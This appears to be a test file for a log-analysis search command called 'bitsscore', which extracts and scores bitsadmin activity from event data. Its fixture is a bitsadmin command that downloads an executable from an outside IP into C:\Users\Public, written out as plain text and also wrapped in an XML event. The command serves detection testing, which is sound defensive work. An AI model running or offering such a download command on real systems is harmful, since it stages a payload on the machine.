/** The command as it ships: the real reader of events, the real score. */
import { bitsscore, readSettings, serveBytes, tunedScorer } from '../../src/searchcommand/index.js';
import { execute, getinfo, records, replies } from './conversation.js';

const local = (text: string) => tunedScorer(readSettings([{ name: 'default/bitsscore.conf', text: '[bitsscore]\nthreshold = 50\n' }, { name: 'local/bitsscore.conf', text }]));
const rows = (args: string[], body: string, conf = '') => records(replies(serveBytes(Buffer.concat([getinfo(...args), execute(body)]), bitsscore(local(conf))).output)[1]?.body ?? '');

const attack = 'bitsadmin /transfer job /download /priority foreground http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe';

test.each(['process', 'Processes.process', 'CommandLine'])('a download is seen in %s; a row about something else stays empty', (field) => {
  const [found, other] = rows([], `${field}\n${attack}\nnotepad.exe a.txt\n`);
  expect(Number(found?.['bits_score'])).toBeGreaterThan(0);
  expect(found).toMatchObject({ bits_action: 'transfer', bits_direction: 'download', bits_url: 'http://203.0.113.7/a.exe', bits_domain: '203.0.113.7', bits_path: 'C:\\Users\\Public\\a.exe', bits_job: 'job' });
  expect(Object.keys(other ?? {}).filter((name) => name.startsWith('bits_')).every((name) => other?.[name] === '')).toBe(true);
});

test('_raw is read with raw=true alone, and only where the fields say nothing', () => {
  const event = `"<Event><System><EventID>1</EventID></System><EventData><Data Name='CommandLine'>${attack}</Data></EventData></Event>"`;
  const [plain, raw] = [rows([], `_raw\n${event}\n`)[0], rows(['raw=true'], `_raw\n${event}\n`)[0]];
  expect([plain?.['bits_score'], raw?.['bits_url'], raw?.['bits_score']]).toEqual(['', 'http://203.0.113.7/a.exe', rows([], `process\n${attack}\n`)[0]?.['bits_score']]);
  expect(rows(['raw=true'], `_raw,process\n${event},bitsadmin /list\n${event},notepad.exe\nnothing,notepad.exe\n`).map((row) => row['bits_action'])).toEqual(['list', 'transfer', '']);
  expect(rows(['raw=true', 'process=line'], `_raw,line\n,${attack}\n`)[0]?.['bits_action']).toBe('transfer');
});

test('the threshold decides which rows are explained, explain overrules it, and all keep score and facts', () => {
  const reasons = (...args: string[]) => rows(args, `process\n${attack}\n`)[0];
  expect(reasons('threshold=0')?.['bits_reasons']).not.toBe('');
  expect(reasons('threshold=100')).toMatchObject({ bits_reasons: '', bits_signals: '', bits_techniques: '', bits_action: 'transfer' });
  expect(reasons('threshold=100', 'explain=true')?.['bits_reasons']).not.toBe('');
  expect(reasons('threshold=0', 'explain=false')?.['bits_reasons']).toBe('');
  expect(reasons('prefix=b.')).toHaveProperty(['b.action'], 'transfer');
});

test('local settings win over default, a bad one is told and the default holds', () => {
  expect(local('[bitsscore]\nthreshold = 101\n').warnings).toEqual([expect.stringMatching(/^bitsscore\.conf \[bitsscore\] threshold: .*default 50 holds/)]);
  expect(local('no conf\n').warnings).toEqual([expect.stringContaining('local/bitsscore.conf:1')]);
  expect(local('[bitsscore]\nthreshold = 0\n').warnings).toEqual([]);
  expect(rows([], `process\n${attack}\n`, '[bitsscore]\nthreshold = 0\n')[0]?.['bits_reasons']).not.toBe('');
});
